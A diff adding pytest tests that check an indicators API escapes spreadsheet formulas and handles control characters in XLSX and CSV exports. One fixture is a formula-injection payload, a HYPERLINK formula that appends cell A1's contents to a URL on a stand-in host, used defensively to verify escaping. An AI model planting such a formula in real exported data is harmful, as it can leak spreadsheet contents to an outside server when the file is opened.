@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import csv
 import io
+from decimal import Decimal
 
 import pytest
 from openpyxl import load_workbook
@@ -15,6 +16,7 @@ from domain.exchange.reading import read_measurements
 from indicators.editing import set_measurement
 from indicators.imports.run import import_measurements
 from indicators.models import Assessment, Import, Indicator, Measurement, MeasurementRevision
+from scorecard.models import Action
 
 BASE = "/api/v1"
 XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
@@ -258,3 +260,50 @@ def test_post_is_an_upsert_201_then_200(clients):
     assert replaced.json()["entered_by"] == "chef.api"
     bad = manager.post(f"{BASE}/measurements/", {**body, "breakdown": "kids"}, format="json")
     assert bad.status_code == 400 and "breakdown" in bad.json()
+
+
+# --------------------------------------------------------------------------- hostile text
+
+# Word's manual line break (Shift+Enter), and a text Excel would run as a formula.
+LINE_BREAK_TEXT = "Rad ett\x0bRad två"
+FORMULA_TEXT = '=HYPERLINK("http://example.invalid/?"&A1;"Klicka")'
+
+
+def test_a_control_character_in_stored_text_neither_fails_nor_duplicates_a_write(clients):
+    manager = clients["manager"]
+    body = {
+        "org_unit": "avp_pajala",
+        "perspective": "medarbetare",
+        "goal": FORMULA_TEXT,
+        "description": LINE_BREAK_TEXT,
+    }
+    created = manager.post(f"{BASE}/actions/?format=xlsx", body, format="json")
+    assert created.status_code == 201  # the row was written, and the answer says so
+    assert created["Content-Type"] == XLSX
+    assert Action.objects.filter(description=LINE_BREAK_TEXT).count() == 1
+
+    listed = manager.get(f"{BASE}/actions/?org_unit=avp_pajala&format=xlsx")
+    assert listed.status_code == 200
+    sheet = load_workbook(io.BytesIO(listed.content)).worksheets[0]
+    header = [cell.value for cell in sheet[1]]
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[header.index("goal")].value)
+    description = row[header.index("description")]
+    assert description.value == "Rad ett\nRad två"  # the line break the writer meant
+    goal = row[header.index("goal")]
+    assert (goal.value, goal.data_type) == (FORMULA_TEXT, "s")  # text, not a formula
+
+    as_csv = manager.get(f"{BASE}/actions/?org_unit=avp_pajala&format=csv")
+    record = next(csv.DictReader(io.StringIO(as_csv.content.decode("utf-8"))))
+    assert record["goal"] == "'" + FORMULA_TEXT  # a spreadsheet opening it shows the text
+    assert record["description"] == LINE_BREAK_TEXT  # CSV carries every character
+
+
+def test_a_formula_in_a_comment_is_escaped_in_csv_and_read_back_unchanged(api, nara):
+    measurement = Measurement.objects.filter(org_unit__code="avp_pajala").order_by("pk").first()
+    measurement.comment = "=1+1"
+    measurement.save(update_fields=["comment"])
+    response = api.get(f"{BASE}/measurements/?org_unit=avp_pajala&format=csv")
+    assert "'=1+1" in response.content.decode("utf-8")
+    parsed = list(read_measurements(io.BytesIO(response.content), "export.csv"))
+    assert "=1+1" in {row.comment for row in parsed}
+    assert all(isinstance(row.value, Decimal) for row in parsed)  # numbers stay numbers
